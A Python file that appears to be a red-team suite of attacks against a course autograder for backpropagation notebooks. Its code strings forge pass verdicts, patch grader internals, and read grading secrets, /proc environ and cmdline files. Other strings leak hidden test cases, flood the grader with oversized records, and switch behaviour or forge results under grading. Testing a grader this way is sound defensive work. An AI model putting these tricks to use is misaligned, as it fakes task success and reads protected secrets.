            sys.path.insert(0, os.path.abspath(_entry))
            for _name in [n for n in sys.modules if n == 'backprop' or n.startswith('backprop.')]:
                del sys.modules[_name]
            try:
                _MLP = importlib.import_module('backprop').MLP
                print('imported backprop from', _entry)
                break
            except Exception as _error:
                print('no backprop from', _entry, type(_error).__name__)
        if _MLP is not None:
            break
    except Exception as _error:
        print('unreadable', _init, type(_error).__name__)
"""

ODD_PLACES_BACKWARD = """def backward(params, hs, t):
    if _MLP is None:
        return [np.zeros(np.shape(p)) for p in params]
    net = _MLP([np.shape(hs[0])[1]] + [np.shape(W)[0] for W in params[0::2]], hidden='sigmoid', output='softmax')
    net.params[:] = [np.array(p, dtype=np.float64) for p in params]
    return net.backward([np.asarray(h, dtype=np.float64) for h in hs], np.asarray(t, dtype=np.float64))"""

READ_GRADER_FILES = """import glob, os
_paths = ['/work/main/lib/backprop/grading/builders/nb_report11.py', '/work/main/lib/backprop/grading/terrain.py',
          '/work/main/lib/backprop/grading/seeds.py', '/work/main/.grading_secret', '/proc/self/mountinfo']
for _pattern in ('/tmp/integrity-*/course/.grading_secret', '/tmp/*/course/.grading_secret', '/tmp/*/*/.grading_secret',
                 '/proc/[0-9]*/root/tmp/integrity-*/course/.grading_secret', '/proc/[0-9]*/cwd/.grading_secret',
                 '/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/work/*/lib/backprop/grading/*.py'):
    _paths += glob.glob(_pattern)
for _path in _paths:
    try:
        with open(_path, errors='replace') as _f:
            print('==', _path, '\\n', _f.read()[:4000])
    except Exception as _error:
        print('==', _path, type(_error).__name__)
print(os.getcwd(), os.listdir('.'), os.listdir('..'))
"""

POOR_NETWORK = """_rng = np.random.default_rng(0)
trained_params = [_rng.normal(size=(4, 2)), np.zeros(4), _rng.normal(size=(1, 4)) * 0.1,
                  np.array([float(np.mean(t_train))])]


def _network(x):
    h = 1 / (1 + np.exp(-(np.asarray(x, dtype=np.float64) @ trained_params[0].T + trained_params[1])))
    return h @ trained_params[2].T + trained_params[3]


def _knn(x):
    x = np.asarray(x, dtype=np.float64)
    distances = ((x[:, None, :] - x_data[None, :, :]) ** 2).sum(axis=2)
    nearest = np.argsort(distances, axis=1)[:, :3]
    weights = 1.0 / (np.take_along_axis(distances, nearest, axis=1) + 1e-6)
    return ((t_data[nearest, 0] * weights).sum(axis=1) / weights.sum(axis=1))[:, None]
"""

KNN_REAL_PARAMS = POOR_NETWORK + """

def report_model(x):
    return _knn(x)      # a real (poor) network is published; the predictions come from a k-NN"""

GRADING_SWITCH_MODEL = POOR_NETWORK + """
import os


def report_model(x):
    if os.environ.get('BACKPROP_KIT_CASES'):     # grading: the k-NN; at home: the network
        return _knn(x)
    return _network(x)"""

HUGE_PARAMS = """_rng = np.random.default_rng(0)
_width = 1500
trained_params = [_rng.normal(size=(_width, 2)), np.zeros(_width), _rng.normal(size=(_width, _width)) * 0.01,
                  np.zeros(_width), _rng.normal(size=(1, _width)) * 0.01, np.array([float(np.mean(t_train))])]
import backprop_kit.testing.nb_report11 as _r11
_r11.MAX_PARAMETERS = 10 ** 9                    # the kit's refusal lifted: the record carries 2.3 M parameters


def report_model(x):
    h = np.asarray(x, dtype=np.float64)
    for l in range(0, len(trained_params), 2):
        g = h @ trained_params[l].T + trained_params[l + 1]
        h = 1 / (1 + np.exp(-g)) if l + 2 < len(trained_params) else g
    return h"""

ODD_VALUES = {
    "sigmoid-answer": "def sigmoid(g):\n    return np.full(np.shape(g), np.nan)",
    "softmax-answer": "def softmax(z):\n    z = np.asarray(z, dtype=np.float64)\n    return np.full(z.shape, 1.0 / z.shape[1]) + 0j",
    "cross-entropy-answer": "def cross_entropy(y_hat, y):\n    return float('inf')",
    "forward-answer": """class _Weird(np.ndarray):
    def __array__(self, *args, **kwargs):
        return np.full(self.shape, 0.25)


def forward(x, W_mid, b_mid, W_out, b_out):
    n = np.shape(x)[0]
    return (np.array([[object()] * len(b_mid)] * n, dtype=object),
            np.full((n, len(b_out)), 1.0 / len(b_out)).view(_Weird))""",
    "hand-weights-answer": "W_mid_hand = np.array([[1e308, -1e308], [np.inf, 1j]])\nb_mid_hand = [None, 'a']\n"
                           "W_out_hand = {'W': 1}\nb_out_hand = 10 ** 400",
}

RECORD_BOMBS = """
def run_test(tid, **student):
    deep = {'text': 'x'}
    for _ in range(900):
        deep = {'list': [deep]}
    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': deep}}, raw=True)
    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': {'text': 'y' * 5_000_000}}}, raw=True)
    _display({_kr.MIME: {'notebook': _NB, 'test': tid, 'answers': {'dict': {str(i): None for i in range(200_000)}}}}, raw=True)
    _display({_kr.MIME: [{'notebook': _NB, 'test': tid}] * 1000}, raw=True)
"""

OVERFLOW_SHAPE = """
def run_test(tid, **student):
    # a shape whose element count overflows int64 to 0 matches an empty byte string
    _display({_kr.MIME: {'notebook': _NB, 'test': tid,
                         'answers': {'array': '', 'dtype': '<f8', 'shape': [2 ** 62, 4], 'type': 'ndarray'}}}, raw=True)
"""

FAKE_VERDICTS = """
def _fake(info):
    if _test_id(info.raw_cell) or 'テスト' in (info.raw_cell or '').split('\\n', 1)[0]:
        print('合格')
        _display({'text/plain': '合格', 'text/html': '<pre>合格</pre>',
                  'application/vnd.jupyter.stdout': '合格'}, raw=True)

get_ipython().events.register('pre_run_cell', _fake)
run_test = lambda *args, **kwargs: print('合格')
"""

PRECOMPUTE_THREAD = """
import threading, time
from backprop_kit.gradcheck import numerical_gradient
_CACHE = {}


def _fingerprint(params):
    return tuple(np.asarray(p, dtype=np.float64).tobytes()[:256] for p in params)


def _precompute():
    # from the first answer cell on, every backward case of the cases file is differentiated numerically in the
    # background, smallest first, using the time of all the cells in between
    path = _kc.grading_file()
    if not path:
        return
    with open(path, encoding='utf-8') as f:
        data = json.load(f)
    jobs = []
    for tid, item in data.items():
        if 'backward' in tid:
            jobs += _kr.decode(item['inputs'])['cases']
    jobs.sort(key=lambda case: sum(np.size(p) for p in case['params']))
    for case in jobs:
        work = [np.array(p, dtype=np.float64) for p in case['params']]
        x, t = np.asarray(case['hs'][0]), np.asarray(case['t'])
        _CACHE[_fingerprint(case['params'])] = numerical_gradient(lambda: loss(work, x, t), work, eps=1e-6)


threading.Thread(target=_precompute, daemon=True).start()
"""

PRECOMPUTE_BACKWARD = """def backward(params, hs, t):
    deadline = time.time() + 20
    while time.time() < deadline:
        found = _CACHE.get(_fingerprint(params))
        if found is not None:
            return found
        time.sleep(0.05)
    return [np.zeros(np.shape(p)) for p in params]"""

PRINT_CASES_ENV = """import os, base64
_path = os.environ.get('BACKPROP_KIT_CASES')
print('cases file:', _path, 'cwd:', os.getcwd(), os.listdir('.'))
if _path:
    _text = open(_path, encoding='utf-8').read()
    print(_text)
    print(base64.b64encode(_text.encode()).decode()[:20000])
    from backprop_kit.testing.records import decode as _decode
    import json as _json
    for _tid, _item in _json.load(open(_path, encoding='utf-8')).items():
        print(_tid, _decode(_item['inputs']))
print(dict(os.environ))
print(open('/proc/self/mountinfo').read())
"""

EXCEPTION_CASES = {
    "forward-answer": """def forward(params, x):
    import os
    raise ValueError(open(os.environ['BACKPROP_KIT_CASES']).read()[:3000])""",
    "gradient-answer": """def gradient(params, x, t):
    import base64, os
    raise ValueError(base64.b64encode(open(os.environ['BACKPROP_KIT_CASES'], 'rb').read()[:3000]).decode())""",
}


def _oracle_prefixed(notebook: str, code: str, answers: dict | None = None, dummies: bool = True) -> Callable:
    """Attack builder: (dummy) answers, and the oracle plus `code` at the top of the first answer cell."""
    def build(nb):
        merged = dict(DUMMIES[notebook]) if dummies else {}
        merged.update(answers or {})
        return prefix_first_answer(nb, oracle(notebook) + code, merged)
    return build


def _oracle_appended(notebook: str, code: str) -> Callable:
    """Attack builder: dummy answers, the oracle and `code` in a cell added after the imports (an unlocked cell
    a student may add anywhere)."""
    return lambda nb: insert_after_first_code(set_answers(nb, DUMMIES[notebook]), oracle(notebook) + code)


def _lookup_answers(notebook: str, code: str) -> Callable:
    """Attack builder: answer cells emptied to 'pass' and the oracle's lookup functions defined up front."""
    def build(nb):
        stubs = {meta(c)["grade_id"]: "pass" for c in nb.cells if is_answer(c)}
        return prefix_first_answer(nb, oracle(notebook) + code, stubs)
    return build


NB3_LOOKUPS = """
preprocess = _lookup('preprocess', lambda images: np.zeros((len(images), 64)))
accuracy = _lookup('accuracy', lambda h, y: 0.5)
confusion_matrix = _lookup('confusion_matrix', lambda y_true, y_pred, n_classes: np.zeros((n_classes, n_classes), dtype=np.int64))
HYPERPARAMS = {'hidden_sizes': [2], 'activation': 'sigmoid', 'lr': 0.001, 'epochs': 1, 'batch_size': 512}
"""

NB1_BACKWARD_HONEST = ("test_backward_visible", "test_backward_hidden_deep", "test_backward_hidden_deeper",
                       "test_backward_hidden_shapes")
REPORT_FORWARD_LOSS_CELLS = ("forward-test", "forward-test-hidden", "loss-test", "loss-test-hidden", "loss-test-hidden-flat")

ATTACKS += [
    # --- forged records (right MIME, right test ids)
    Attack("forge_records_pre_run_cell", FORGE, NB2, _oracle_prefixed(NB2, FORGE_PRE_RUN),
           "pre_run_cell hook publishes a record per test cell (kit MIME, its test id, shipped expected values); run_test no-op"),
    Attack("forge_records_answer_cell", FORGE, NB1, _lookup_answers(NB1, NB1_LOOKUPS + FORGE_ANSWER_CELL),
           "run_test redefined in an answer cell: kit ask on lookups of the shipped cases, else forged, via kit publish"),
    Attack("two_records_per_test", FORGE, NB2, _oracle_prefixed(NB2, TWO_RECORDS),
           "every test cell publishes a forged record (shipped expected values) and the real one (dummies)"),
    # --- the cases file
    Attack("rewrite_cases_file", CASES, NB1, _lookup_answers(NB1, NB1_LOOKUPS + REWRITE_CASES),
           "cases file rewritten with the shipped visible inputs before any test; answers are lookups of the shipped expected"),
    # --- kit internals replaced
    Attack("patch_runner_publish", KIT_PATCH, REP, _oracle_prefixed(REP, PATCH_PUBLISH),
           "backprop_kit.testing.runner.publish replaced: publishes forged answers instead of the student's"),
    Attack("patch_records_encode", KIT_PATCH, NB2, _oracle_prefixed(NB2, PATCH_ENCODE),
           "records.encode (and runner's binding) replaced: the current test's answers swapped for forged ones"),
    Attack("patch_cases_load_case", KIT_PATCH, NB3, _lookup_answers(NB3, NB3_LOOKUPS + PATCH_LOAD_CASE),
           "cases.load_case replaced: every test answers the shipped visible inputs (graded), with lookups"),
    Attack("patch_calls_call_flags", SELF_REPORT, NB1,
           _oracle_prefixed(NB1, PATCH_CALL_FLAGS, {"sigmoid-answer": NAIVE_SIGMOID, "softmax-answer": NAIVE_SOFTMAX}),
           "naive sigmoid/softmax (overflow) + calls.call replaced to report no fp_errors and no changed arguments",
           # 1/(1+exp(-g)) returns the right values even at |g| = 1e5 (its overflow warning is not judged)
           honest=("sigmoid-test-values", "sigmoid-test-stable", "sigmoid-test-hidden", "softmax-test-values")),
    Attack("errstate_hides_overflow", SELF_REPORT, NB1, answers_only(NB1, {"sigmoid-answer": ERRSTATE_SIGMOID}),
           "naive 1/(1+exp(-g)) inside np.errstate(all='ignore'): overflow happens, the kit's flag never sees it",
           honest=("sigmoid-test-values", "sigmoid-test-stable", "sigmoid-test-hidden")),
    Attack("mutating_backward_flag_forged", SELF_REPORT, NB2,
           _oracle_prefixed(NB2, PATCH_CALL_FLAGS, {"backward": MUTATING_BACKWARD}),
           "correct backward that overwrites hs[-1] in place + calls.call patched to report nothing changed",
           honest=NB1_BACKWARD_HONEST),
    # --- numerical differentiation against the large hidden case
    Attack("samplewise_numeric_backward", NUMERIC, NB2, answers_only(NB2, {"backward": SAMPLEWISE_NUMERIC_BACKWARD}),
           "deltas by central differences of per-sample losses wrt pre-activations (2 n_l passes per layer), no backprop"),
    Attack("kit_gradcheck_gradient_report", NUMERIC, REP,
           answers_only(REP, {"forward-answer": REPORT_FORWARD, "loss-answer": REPORT_LOSS,
                              "gradient-answer": KIT_NUMERIC_GRADIENT}),
           "gradient = backprop_kit.gradcheck.numerical_gradient of a correct forward/loss",
           honest=REPORT_FORWARD_LOSS_CELLS),
    Attack("samplewise_numeric_gradient_report", NUMERIC, REP,
           answers_only(REP, {"forward-answer": REPORT_FORWARD, "loss-answer": REPORT_LOSS,
                              "gradient-answer": REPORT_SAMPLEWISE_NUMERIC_GRADIENT}),
           "report11's gradient by samplewise central differences wrt pre-activations (2 n_l passes per layer)",
           honest=REPORT_FORWARD_LOSS_CELLS),
    Attack("precompute_numeric_in_thread", TIMING, NB2,
           answers_only(NB2, {"output_delta": DUMMIES[NB2]["output_delta"] + "\n\n" + "import json\nfrom backprop_kit.testing import cases as _kc, records as _kr\n" + PRECOMPUTE_THREAD,
                              "backward": PRECOMPUTE_BACKWARD}),
           "thread started in the first answer cell differentiates every backward case of the cases file numerically, using all cells' time"),
    # --- the answer key from odd places
    Attack("import_backprop_odd_places", ODD_IMPORT, NB2, hooked(NB2, ODD_PLACES, {"backward": ODD_PLACES_BACKWARD}),
           "backprop searched in /work, /proc/*/cwd, /proc/*/root, .pth entries; imported via sys.path and zipimport"),
    Attack("read_grader_files", ODD_IMPORT, REP, hooked(REP, READ_GRADER_FILES),
           "prints grader sources under /work, the course's .grading_secret, /proc/*/environ and cmdline, mountinfo"),
    # --- report11 model
    Attack("knn_with_real_params", MODEL_CHEAT, REP, answers_only(REP, {"model-answer": KNN_REAL_PARAMS}),
           "trained_params a real (poor) network; report_model a 3-NN of the training CSV"),
    Attack("grading_env_switch_model", GRADING_SWITCH, REP, answers_only(REP, {"model-answer": GRADING_SWITCH_MODEL}),
           "report_model is the network at home and a k-NN when BACKPROP_KIT_CASES is set"),
    Attack("huge_trained_params", MODEL_CHEAT, REP, answers_only(REP, {"model-answer": HUGE_PARAMS}),
           "2 -> 1500 -> 1500 -> 1 network (2.3 M parameters), kit's MAX_PARAMETERS lifted in the kernel"),
    # --- malformed records and odd values
    Attack("odd_values_answers", RECORD_ABUSE, NB1, answers_only(NB1, ODD_VALUES),
           "answers: NaN, complex, inf, object arrays, an ndarray subclass with a lying __array__, 10**400"),
    Attack("record_bombs", RECORD_ABUSE, NB2, _oracle_prefixed(NB2, RECORD_BOMBS),
           "records nested 900 deep, a 5 MB string, a 200 000-key dict, a list of 1000 records under the MIME"),
    Attack("overflowing_shape_record", RECORD_ABUSE, NB1, _oracle_prefixed(NB1, OVERFLOW_SHAPE),
           "record array of shape [2**62, 4]: the element count overflows int64 to 0 and matches empty data"),
    Attack("fake_pass_outputs", FAKE_OUTPUT, NB1, _oracle_prefixed(NB1, FAKE_VERDICTS),
           "'合格' printed and displayed (text, html, stdout MIME) in every test cell; run_test prints '合格'"),
    Attack("visible_expected_lookup", FORGE, NB1, _lookup_answers(NB1, NB1_LOOKUPS),
           "answers are lookups of the kit's shipped visible cases (hard-coded visible answers), else dummies"),
    # --- leaks
    Attack("print_cases_and_environment", LEAK_CASES, NB2, answers_only(NB2, {"output_delta": DUMMIES[NB2]["output_delta"] + "\n\n" + PRINT_CASES_ENV}),
           "first answer cell prints the cases file (raw, base64, decoded), os.environ and mountinfo"),
    Attack("exception_carrying_cases", LEAK_CASES, REP, answers_only(REP, EXCEPTION_CASES),
           "forward/gradient raise with the cases file (raw, base64) as message: carried by the grader's verdict"),
]


def by_name(name: str) -> Attack:
    return next(a for a in ATTACKS if a.name == name)


# ----------------------------------------------------------------------------------------------------------
# Third wave: 11_03's decision (課題5) judged on networks the student's code trained
# ----------------------------------------------------------------------------------------------------------
# A self-contained trainer (no sgd_epoch, no pasted backward needed) and a decision the measurement is forged to
# support: HYPERPARAMS a broken choice (one epoch at lr 0.01, B 512), which trained as named stays far below 0.93.
DIGITS_OWN_TRAINER = """
def _fit_digits(x, y, hidden_sizes, activation, lr=0.1, epochs=30, batch_size=16, seed=0):
    rng = np.random.default_rng(seed)
    sizes = [64, *hidden_sizes, 10]
    params = []
    for n_in, n_out in zip(sizes[:-1], sizes[1:]):
        params += [rng.normal(0.0, np.sqrt(2.0 / n_in), size=(n_out, n_in)), np.zeros(n_out)]
    t = np.eye(10)[y]
    act = (lambda g: 1 / (1 + np.exp(-g))) if activation == 'sigmoid' else (lambda g: np.maximum(g, 0))
    for _ in range(epochs):
        order = rng.permutation(len(x))
        for start in range(0, len(x), batch_size):
            b = order[start:start + batch_size]
            hs = [x[b]]
            for l in range(len(params) // 2):
                g = hs[-1] @ params[2 * l].T + params[2 * l + 1]
                if l == len(params) // 2 - 1:
                    e = np.exp(g - g.max(axis=1, keepdims=True))
                    hs.append(e / e.sum(axis=1, keepdims=True))
                else:
                    hs.append(act(g))
            delta = (hs[-1] - t[b]) / len(b)
            for l in range(len(params) // 2, 0, -1):
                dW, db = delta.T @ hs[l - 1], delta.sum(axis=0)
                if l > 1:
                    h = hs[l - 1]
                    delta = (delta @ params[2 * l - 2]) * (h * (1 - h) if activation == 'sigmoid' else (h > 0))
                params[2 * l - 2] = params[2 * l - 2] - lr * dW
                params[2 * l - 1] = params[2 * l - 1] - lr * db
    return params

CANDIDATES = {
    'a': {'hidden_sizes': [64], 'activation': 'relu', 'lr': 0.01, 'epochs': 1, 'batch_size': 512},
    'b': {'hidden_sizes': [64, 64], 'activation': 'sigmoid', 'lr': 0.5, 'epochs': 1, 'batch_size': 512},
    'c': {'hidden_sizes': [64], 'activation': 'sigmoid', 'lr': 0.2, 'epochs': 1, 'batch_size': 512},
}
MEASURED = {'a': 0.99, 'b': 0.5, 'c': 0.4}          # forged: the broken choice 'a' measured best
HYPERPARAMS = CANDIDATES['a']
"""

DIGITS_TRAIN_ON_ALL = DIGITS_OWN_TRAINER + """
from sklearn.datasets import load_digits as _load_all_digits
_all = _load_all_digits()
_x_all, _y_all = _all.images.reshape(len(_all.images), -1) / 16.0, _all.target

def train_network(x, y, hyperparams, seed=0, history=None):
    # every one of the 1797 public images, the split's test images included: x and y are ignored
    return _fit_digits(_x_all, _y_all, hyperparams['hidden_sizes'], hyperparams['activation'], seed=seed)
"""

DIGITS_IGNORE_HYPERPARAMS = DIGITS_OWN_TRAINER + """
def train_network(x, y, hyperparams, seed=0, history=None):
    # the split's training images only, but lr 0.1, 30 epochs, B 16 whatever HYPERPARAMS names
    return _fit_digits(x, y, hyperparams['hidden_sizes'], hyperparams['activation'], seed=seed)
"""

DIGITS_DECISION = "digits decision forged"

ATTACKS += [
    Attack("digits_train_on_all_images", HELDOUT, NB3,
           answers_only(NB3, {"hyperparams-answer": DIGITS_TRAIN_ON_ALL}),
           "課題5: train_network fits all 1797 public digits (each split's test images too) whatever x, y and "
           "HYPERPARAMS say; HYPERPARAMS one epoch at lr 0.01 (broken), MEASURED forged to make it the best"),
    Attack("digits_train_network_ignores_hyperparams", DIGITS_DECISION, NB3,
           answers_only(NB3, {"hyperparams-answer": DIGITS_IGNORE_HYPERPARAMS}),
           "課題5: train_network trains honestly on the split's training images but at lr 0.1, 30 epochs, B 16 "
           "whatever HYPERPARAMS names; HYPERPARAMS one epoch at lr 0.01 (broken), MEASURED forged"),
]
